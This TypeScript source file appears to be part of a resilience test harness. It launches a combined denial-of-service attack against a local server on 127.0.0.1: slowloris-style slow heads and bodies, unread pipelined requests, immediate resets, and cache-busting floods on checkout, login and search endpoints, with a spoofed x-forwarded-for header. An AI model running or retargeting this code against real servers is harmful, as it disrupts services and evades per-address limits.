// A program of its own: its machine would not be ours, so it gets the least of this one's processors, and what it does
// does not delay the clock of those who measure.
import net from 'node:net'
import os from 'node:os'
import { parseArgs } from 'node:util'

type Target = { port: number; address: string }

const PIPELINES = { connections: 12, requests: 10 }
const SLOW_BODIES = 72
const SLOW_HEADS = 60
const HUNG_UP = { every: 20, ms: 100 }
const FLOOD = { connections: 60 }
const DRIBBLE_MS = 1_000
const RESTART_MS = 1_000

/**
 * Every way we know to occupy a server from one address, all at once and again as soon as they end: requests sent ahead and
 * never read, bodies and heads that hardly arrive, callers who hang up at once, and a plain flood, also of purchases.
 */
function attackFrom(target: Target): void {
  let sent = 0

  const open = (start: string, onOpen: (socket: net.Socket) => void = () => {}): void => {
    const socket = net.connect(target.port, '127.0.0.1', () => {
      sent += 1
      socket.write(start)
      onOpen(socket)
    })
    socket.on('error', () => {}) // being cut off is what it asks for
    socket.on('close', () => setTimeout(() => open(start, onOpen), RESTART_MS))
  }
  const head = (line: string, more = '') =>
    `${line} HTTP/1.1\r\nhost: localhost\r\nx-forwarded-for: ${target.address}\r\n${more}\r\n`
  const slowBody = (path: string) =>
    head(`POST ${path}`, 'content-type: application/json\r\ncontent-length: 100\r\n')

  for (let one = 0; one < PIPELINES.connections; one += 1)
    open(head('GET /api/v1/docs').repeat(PIPELINES.requests), (socket) => socket.pause())
  for (let one = 0; one < SLOW_BODIES; one += 1) {
    const path = SLOW_PATHS[one % SLOW_PATHS.length] ?? ''
    open(slowBody(path), (socket) => dribble(socket, ' '))
  }
  for (let one = 0; one < SLOW_HEADS; one += 1)
    open('GET / HTTP/1.1\r\n', (socket) => dribble(socket, 'x-more: 1\r\n'))
  for (let one = 0; one < FLOOD.connections; one += 1) {
    const path = FLOODED[one % FLOODED.length] ?? ''
    open(head(`GET ${path}`), (socket) => askAgain(socket, head(`GET ${path}`)))
  }
  setInterval(() => {
    for (let one = 0; one < HUNG_UP.every; one += 1) {
      const path = `/products?search=${Math.random()}`
      const socket = net.connect(target.port, '127.0.0.1', () => {
        sent += 1
        socket.write(head(`GET ${path}`), () => socket.resetAndDestroy())
      })
      socket.on('error', () => {})
    }
    process.send?.(sent)
  }, HUNG_UP.ms)
}

const SLOW_PATHS = [
  '/api/v1/orders/checkout',
  '/api/v1/cart/addToCart',
  '/api/v1/user/login',
  '/api/v1/s3/upload',
]
const FLOODED = ['/products?search=', '/api/v1/products?search=', '/api/v1/cart', '/api/v1/docs?x=']

function dribble(socket: net.Socket, bytes: string): void {
  const timer = setInterval(() => socket.write(bytes), DRIBBLE_MS)
  socket.on('close', () => clearInterval(timer))
}

/** The next request as soon as anything comes back. */
function askAgain(socket: net.Socket, request: string): void {
  socket.on('data', () => socket.write(request.replace(/([?&]\w+=)\S*/, `$1${Math.random()}`)))
}

const { values } = parseArgs({ options: { port: { type: 'string' }, address: { type: 'string' } } })
os.setPriority(os.constants.priority.PRIORITY_LOW)
process.once('message', () => attackFrom({ port: Number(values.port), address: values.address ?? '' }))
process.send?.(0)
